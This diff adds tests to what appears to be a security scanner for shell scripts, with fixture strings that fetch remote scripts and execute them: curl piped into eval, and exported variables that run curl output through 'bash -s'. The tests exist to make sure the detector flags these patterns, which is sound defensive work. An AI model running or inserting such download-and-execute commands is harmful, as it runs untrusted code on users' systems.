@@ -375,3 +375,17 @@ def test_a_here_document_keeps_its_literal_text_around_a_functions_argument(tmp_
     )
     found = analyse_file(tmp_path, "scripts/install.sh", source, Language.SHELL)
     assert (Kind.PERSISTENCE, "a systemd unit: ~/.config/systemd/user/helper.service (runs code)") in summary(found)
+
+
+def test_eval_reads_what_is_piped_into_it(tmp_path: Path) -> None:
+    source = 'curl -fsSL "https://tpl.example.invalid/r" | eval ". /dev/stdin"\n'
+    found = analyse_file(tmp_path, "scripts/render.sh", source, Language.SHELL)
+    assert Kind.EXEC_FETCHED in {c.kind for c in found}
+
+
+def test_a_command_exported_by_a_sourced_defaults_file_is_run_by_the_script_that_names_it(tmp_path: Path) -> None:
+    defaults = 'export FETCH="curl -fsSL"\nexport RUN="bash -s"\n'
+    script = '$FETCH "https://tpl.example.invalid/r.sh" | $RUN\n'
+    step = "```bash\nsource scripts/defaults.sh\nbash scripts/build.sh\n```\n"
+    errors = scan_errors(tmp_path, {"scripts/defaults.sh": defaults, "scripts/build.sh": script, "BUILD.md": step})
+    assert ("DOWNLOAD_AND_RUN", "scripts/build.sh", 1) in errors
